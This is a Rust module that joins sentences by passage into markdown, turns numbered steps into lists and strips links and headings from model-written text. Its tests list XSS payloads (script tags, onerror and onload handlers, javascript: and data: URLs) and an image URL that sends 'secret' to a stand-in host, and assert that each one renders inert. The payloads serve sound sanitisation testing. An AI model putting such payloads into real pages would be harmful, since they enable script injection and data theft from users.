//! Sentences as they are said: those of one passage together, steps in a list, and no link but ours.

use super::Checked;
use crate::markdown;
use app::domain::rich::Block;

/// What is shown of sentences, and the place of the passage that it rests on.
pub fn said(sentences: &[Checked]) -> Vec<(Vec<Block>, usize)> {
    let mut parts: Vec<(String, usize)> = Vec::new();
    for it in sentences {
        match parts.last_mut() {
            Some((text, passage)) if *passage == it.passage => join(text, &it.text),
            _ => parts.push((it.text.clone(), it.passage)),
        }
    }
    parts.into_iter().map(|(text, passage)| (unlinked(markdown::blocks(&text)), passage)).collect()
}

fn join(text: &mut String, next: &str) {
    let after_item = text.lines().next_back().is_some_and(is_item);
    text.push_str(match (after_item, is_item(next)) {
        (true, true) => "\n",
        (false, false) => " ",
        _ => "\n\n",
    });
    text.push_str(next);
}

fn is_item(text: &str) -> bool {
    let is_step = text.split_once(". ").is_some_and(|(n, _)| n.len() <= 2 && n.parse::<u8>().is_ok());
    is_step || text.starts_with("- ") || text.starts_with("* ")
}

/// The same with the words of links in their place, and headings as lines: where something leads is for the server to say.
fn unlinked(blocks: Vec<Block>) -> Vec<Block> {
    let line = |block| match block {
        Block::Heading { of, .. } => Block::Paragraph { of },
        other => other,
    };
    markdown::with_links(blocks, &|_| false).into_iter().map(line).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use app::domain::rich::plain;

    fn html(texts: &[(&str, usize)]) -> Vec<(String, usize)> {
        let checked = |(text, passage): &(&str, usize)| Checked { text: (*text).to_owned(), passage: *passage, quote: String::new() };
        let sentences: Vec<Checked> = texts.iter().map(checked).collect();
        said(&sentences).into_iter().map(|(blocks, passage)| (markdown::html(&blocks).trim().replace('\n', ""), passage)).collect()
    }

    #[test]
    fn sentences_of_one_passage_are_one_piece_and_steps_a_list() {
        let told = html(&[("Yes.", 0), ("Do this:", 0), ("1. Open **Billing**.", 0), ("2. Save.", 0), ("Then wait.", 0), ("Else ask.", 2)]);
        let first = "<p>Yes. Do this:</p><ol><li>Open <strong>Billing</strong>.</li><li>Save.</li></ol><p>Then wait.</p>";
        assert_eq!(told, [(first.to_owned(), 0), ("<p>Else ask.</p>".to_owned(), 2)]);
    }

    #[test]
    fn nothing_that_a_model_writes_leads_anywhere_or_runs() {
        for hostile in [
            "[pay here](https://evil.test)",
            "[x](javascript:alert(1))",
            "![p](https://evil.test/p.png?q=secret)",
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            "<svg onload=alert(1)>",
            "<https://evil.test>",
            "[a][b]\n\n[b]: https://evil.test",
            "# [big](https://evil.test)",
            "> [quoted](https://evil.test)",
            "- [item](https://evil.test)",
            "|[a](https://evil.test)|\n|-|\n|[b](https://evil.test)|",
            "**[bold](data:text/html,x)**",
            "<a href=\"https://evil.test\">x</a>",
        ] {
            let shown = html(&[(hostile, 0)]).remove(0).0;
            for sign in ["<a ", "<img", "<script", "<svg"] {
                assert!(!shown.contains(sign), "{hostile}: {shown}");
            }
        }
        assert_eq!(
            plain(&said(&[Checked { text: "[pay](https://evil.test) now".into(), passage: 0, quote: String::new() }])[0].0),
            "pay now"
        );
    }
}
